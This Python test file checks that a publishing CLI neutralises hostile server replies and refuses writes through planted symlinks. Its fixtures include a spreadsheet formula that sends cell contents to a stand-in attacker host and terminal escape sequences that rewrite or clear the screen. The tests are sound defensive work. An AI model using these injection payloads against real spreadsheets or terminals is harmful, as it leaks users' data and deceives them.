"""Output is safe to look at: a hostile peer's answer and a planted symlink against the CLI.

A CMS on loopback answers with terminal escape sequences and spreadsheet
formulas; `log`, `log --csv`, `log --json` and `status --json` show them as
inert text. `metrics -o` refuses to write through a planted link, and the
ledger and written files are not readable by others.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from syndicate.demo.http_sink import HttpSink, Reply
from tests.conftest import BASE_NOTICE

pytestmark = pytest.mark.acceptance

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE_URL = "https://x.example/\x1b]0;owned\x07\x1b[2J\u009b31m"
HOSTILE_ERROR = b'{"error": "\x1b[1A\x1b[2K\x1b[32mdelivered\x1b[0m fine \xc2\x9b2J"}'


def syndicate(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SYNDICATE_")}
    return subprocess.run(
        [sys.executable, "-m", "syndicate", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**env, "COLUMNS": "300"},
        timeout=120,
        check=False,
    )


def unsafe(text: str) -> list[str]:
    return [ch for ch in text if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F]


def test_peer_text_is_inert_in_every_output(tmp_path: Path, sink: HttpSink) -> None:
    (tmp_path / "channels.yaml").write_text(
        f"""
store: {{url: ledger.db}}
defaults: {{retry: {{max_attempts: 1}}}}
channels:
  echoing:
    adapter: cms_http
    url: {sink.url}/ok
  failing:
    adapter: cms_http
    url: {sink.url}/fail
routes:
  - channels: [echoing, failing]
""",
        encoding="utf-8",
    )
    body = json.dumps({"id": HOSTILE_ID, "url": HOSTILE_URL}).encode()
    sink.script("/ok", [Reply(201, body=body)])
    sink.script("/fail", [Reply(400, body=HOSTILE_ERROR)])
    notice = dict(BASE_NOTICE, publish_at="2024-01-01T09:00:00+08:00")
    (tmp_path / "n.json").write_text(json.dumps(notice, ensure_ascii=False), encoding="utf-8")
    assert syndicate("enqueue", "n.json", cwd=tmp_path).returncode == 0
    # 5: the failing channel's delivery ended failed in this run.
    assert syndicate("run", "--once", cwd=tmp_path).returncode == 5

    for args in (
        ("log",),
        ("log", "--json"),
        ("log", "--csv"),
        ("status", "--json"),
        ("run", "--once"),
    ):
        result = syndicate(*args, cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert unsafe(result.stdout + result.stderr) == [], args
    logged = syndicate("log", cwd=tmp_path).stdout
    assert "\\x1b" in logged  # shown, not acted on

    rows = list(csv.DictReader(io.StringIO(syndicate("log", "--csv", cwd=tmp_path).stdout)))
    [echoed] = [r for r in rows if r["channel"] == "echoing"]
    assert echoed["remote_id"] == "'" + HOSTILE_ID
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value

    lines = syndicate("log", "--json", cwd=tmp_path).stdout.splitlines()
    assert HOSTILE_ID in {json.loads(line)["remote_id"] for line in lines}  # data kept exact

    ledger = tmp_path / "ledger.db"
    for path in [ledger, *tmp_path.glob("ledger.db-*")]:
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path


def test_metrics_output_refuses_a_planted_symlink(tmp_path: Path) -> None:
    (tmp_path / "channels.yaml").write_text(
        "store: {url: ledger.db}\nchannels:\n  site: {adapter: cms_http, url: 'https://127.0.0.1:9/'}\n",
        encoding="utf-8",
    )
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    out = tmp_path / "metrics.prom"
    # What a fixed temporary name would have written through:
    (tmp_path / ".metrics.prom.tmp").symlink_to(victim)
    written = syndicate("metrics", "-o", str(out), cwd=tmp_path)
    assert written.returncode == 0, written.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert "syndicate_deliveries" in out.read_text(encoding="utf-8")
    assert stat.S_IMODE(out.stat().st_mode) == 0o640

    out.unlink()
    out.symlink_to(victim)
    refused = syndicate("metrics", "-o", str(out), cwd=tmp_path)
    assert refused.returncode != 0
    assert "symbolic link" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"


def test_credentials_over_plain_http_need_saying_so(tmp_path: Path) -> None:
    channel = "  site:\n    adapter: cms_http\n    url: http://127.0.0.1:9/n\n    auth: {type: bearer, token: t0ken-4711}\n"
    config = tmp_path / "channels.yaml"
    config.write_text(f"store: {{url: ledger.db}}\nchannels:\n{channel}", encoding="utf-8")
    refused = syndicate("check", cwd=tmp_path)
    assert refused.returncode == 1
    assert "allow_insecure_transport" in refused.stdout
    config.write_text(
        f"store: {{url: ledger.db}}\nchannels:\n{channel}    allow_insecure_transport: true\n",
        encoding="utf-8",
    )
    allowed = syndicate("check", cwd=tmp_path)
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert "warning: channels.site: allow_insecure_transport" in allowed.stderr
    assert "t0ken-4711" not in allowed.stdout + allowed.stderr
